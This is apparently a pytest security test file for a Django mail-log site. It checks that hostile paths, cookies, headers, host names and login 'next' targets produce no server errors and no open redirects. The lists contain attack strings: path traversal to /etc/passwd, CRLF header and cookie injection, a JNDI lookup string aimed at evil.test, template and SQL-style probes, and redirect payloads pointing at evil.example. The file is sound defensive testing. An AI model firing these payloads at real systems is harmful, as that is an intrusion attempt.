"""Hostile paths, cookies, headers and places to return to: an answer, never a 5xx, and nobody is led elsewhere."""

import re

import pytest
from django.conf import settings as django_settings
from django.test import Client

from maillog.content.storage import unpack
from maillog.models import Message
from tests.config.site import PAGES, freshly_signed_in, stored
from tests.conftest import signed_in
from tests.factories import PASSWORD

pytestmark = pytest.mark.django_db

NUMBERS = (
    *("0", "-1", "+1", "01", "1.0", "1e3", "9223372036854775807", "9223372036854775808", "9" * 40, "9" * 5_000),
    *("%00", "1%00", "%0a", "1%0d%0aX-Evil:%201", "..", "%2e%2e", "..%2f..%2fetc%2fpasswd", "%ff%fe", "%ed%a0%80", "٣"),
    *("%", "%u0031", "{{7*7}}", "'", "1;drop", "%20", "null", "1/1", "/", "\\", "%5c", "*", "x" * 8_000),
)
NAMED = re.compile(r"{(mail|secret|session|key)}")


# ---------------------------------------------------------------- paths


@pytest.mark.parametrize("place", [page for page in PAGES if NAMED.search(page.path)], ids=lambda page: page.path)
def test_no_number_in_a_path_breaks_a_page(place, site):
    before = stored()
    for client in (Client(), freshly_signed_in(site.admin)):
        for number in (*NUMBERS, "zzzzzzzzzzzzz-abc", "1-%00", "1-" + "x" * 5_000, "-", "0-0-0"):
            path = NAMED.sub(number.replace("\\", r"\\"), place.path)
            for method in ("get", "post"):
                response = getattr(client, method)(path)
                assert response.status_code < 500, (method, path[:60])
                assert "X-Evil" not in response.headers
    if not place.acts:
        assert stored() == before


@pytest.mark.parametrize(
    "tail", ["%00", "%ff", "..%2f", "%2e%2e/%2e%2e/etc/passwd", "x" * 8_000, "?", "%0d%0aSet-Cookie:%20a=b", ";a=b"]
)
def test_no_path_breaks_the_site(tail, site):
    client = freshly_signed_in(site.admin)
    for start in (
        "/",
        "//",
        "/static/",
        "/log/",
        "/secrets/new/",
        "/mail/",
        "/account/",
        "/account/confirm-email/",
        "/healthz",
    ):
        response = client.get(start + tail)
        assert response.status_code < 500, start
        assert not response.cookies.get("a")
        assert re.match(r"/(?![/\\])", response.headers.get("Location", "/")), start


# ---------------------------------------------------------------- cookies and headers

COOKIES = (
    *("", " ", "x", "x" * 5_000, "'", "../../etc/passwd", "ä" * 40, "%00" * 20, "a" * 32 + "\x80"),
    '"' + "\\000" * 16 + '"',  # the cookie parser makes NULs of it
    '"' + "\\015\\012" * 8 + '"',
    '"\\355\\240\\200aaaaaaaa"',
    *("W10=:1:2", "[[", "null", "{}", "1" * 64),
)


@pytest.mark.parametrize("cookie", COOKIES, ids=range(len(COOKIES)))
def test_no_cookie_breaks_a_page(cookie, site):
    before = stored()
    for names in (
        ["sessionid"],
        ["csrftoken"],
        ["messages"],
        ["django_language"],
        ["sessionid", "csrftoken", "messages"],
    ):
        header = "; ".join(f"{name}={cookie}" for name in names)
        for path in ("/", "/log/", "/account/login/", "/account/password/reset/", "/setup/"):
            client = Client(enforce_csrf_checks=True)
            assert client.get(path, headers={"cookie": header}).status_code in {200, 302}, (names, path)
            posted = client.post(path, {"csrfmiddlewaretoken": cookie}, headers={"cookie": header})
            assert posted.status_code in {200, 302, 403}, (names, path)
    assert stored() == before


HEADERS = {
    "accept-language": ["de;q=x", "*" * 2_000, "\x00", "en-" + "a" * 600, ",,,;;;", "../../x"],
    "user-agent": ["", "x" * 5_000, "\xff\xfe", "${jndi:ldap://evil.test/a}", "<script>"],
    "x-forwarded-for": ["evil", "1.2.3.4, ::1", "9" * 500, "%00", "'"],
    "x-forwarded-host": ["evil.example"],
    "x-forwarded-proto": ["https", "nonsense"],
    "referer": ["http://[", "//evil.example", "x" * 5_000, "\xff"],
    "origin": ["null", "http://[", "https://evil.example"],
    "content-type": ["\xff", ";;;"],
    "content-length": ["-1", "x", "9" * 30],
    "accept": ["application/json", "\xff"],
    "x-requested-with": ["XMLHttpRequest"],
    "hx-request": ["true", "\xff"],
    "hx-current-url": ["http://[", "%ED%A0%80", "//evil.example/x"],
    "hx-boosted": ["true"],
    "if-modified-since": ["yesterday", "Thu, 99 Foo 99999 99:99:99 GMT"],
    "if-none-match": ['"', "*"],
    "range": ["bytes=9-1"],
    "x-http-method-override": ["DELETE"],
    "x-rewrite-url": ["/mail/settings/"],
}


@pytest.mark.parametrize("name", HEADERS)
def test_no_header_breaks_a_page(name, site):
    for value in HEADERS[name]:
        headers = {name: value, "hx-request": "true"} if name.startswith("hx-") else {name: value}
        for client in (Client(), signed_in(site.admin)):
            for path in ("/", "/log/", f"/log/{site.mail.pk}/", "/secrets/", "/account/sessions/", "/account/login/"):
                response = client.get(path, headers=headers)
                assert response.status_code < 500, (value[:40], path)
                assert "evil.example" not in response.content.decode() + str(response.headers), path
        typed = {"login": site.admin.email, "password": PASSWORD}
        if not name.startswith("content-"):
            assert Client().post("/account/login/", typed, headers=headers).status_code == 302, value[:40]


# ---------------------------------------------------------------- host names and places to return to

HOSTS = (
    "evil.example",
    "localhost@evil.example",
    "localhost:80@evil.example",
    "localhost.evil.example",
    "a b",
    "[::1",
    "\xff",
)


@pytest.mark.parametrize("host", HOSTS)
def test_a_foreign_host_name_is_refused(host, site):
    for client in (Client(), signed_in(site.admin)):
        for path in ("/", "/account/login/", "/log/"):
            response = client.get(path, headers={"host": host})
            assert response.status_code == 400
            assert "evil" not in response.content.decode()


@pytest.mark.parametrize(
    "forged", [{"x-forwarded-host": "evil.example"}, {"host": "localhost:1337"}, {"forwarded": "host=evil.example"}]
)
def test_links_in_mails_do_not_follow_the_request(forged, site):
    Client().post("/account/password/reset/", {"email": site.admin.email}, headers=forged)
    text = unpack(Message.objects.get(is_sensitive=True).content.mime).decode()
    assert f"{django_settings.BASE_URL}/account/password/reset/key/" in text.replace("=\r\n", "")
    assert "evil" not in text
    assert "1337" not in text


TARGETS = (
    *(
        "https://evil.example",
        "//evil.example",
        "///evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "evil.example",
    ),
    *("https:evil.example", "https:///evil.example", "javascript:alert(1)", "data:text/html,x", "/%09/evil.example"),
    *(
        "/\t/evil.example",
        " //evil.example",
        "\x00//evil.example",
        "/\r\nX-Evil: 1",
        "http://[",
        "//[",
        "/..//evil.example",
    ),
    *(
        "https://testserver@evil.example",
        "https://testserver.evil.example",
        "//evil%E3%80%82example",
        "@evil.example",
        "?x",
    ),
)


@pytest.mark.parametrize("target", TARGETS)
def test_nobody_is_led_to_another_site(target, site):
    typed = {"login": site.admin.email, "password": PASSWORD, "next": target}
    ways = [
        Client().post("/account/login/", typed),
        signed_in(site.admin).post("/account/reauthenticate/", typed),
        signed_in(site.admin).post("/account/logout/", typed),
        signed_in(site.admin).get("/account/login/", {"next": target}),
        freshly_signed_in(site.admin).get("/account/reauthenticate/", {"next": target}),
    ]
    for response in ways:
        location = response.headers.get("Location", "/")
        assert re.match(r"/(?![/\\])[^\x00-\x20\x7f]*$", location), location
        assert "X-Evil" not in response.headers
    page = Client().get("/account/login/", {"next": target}).content.decode()
    assert not re.search(r"""(href|action)=["'](?!/(?![/\\])|#|\?)""", page)
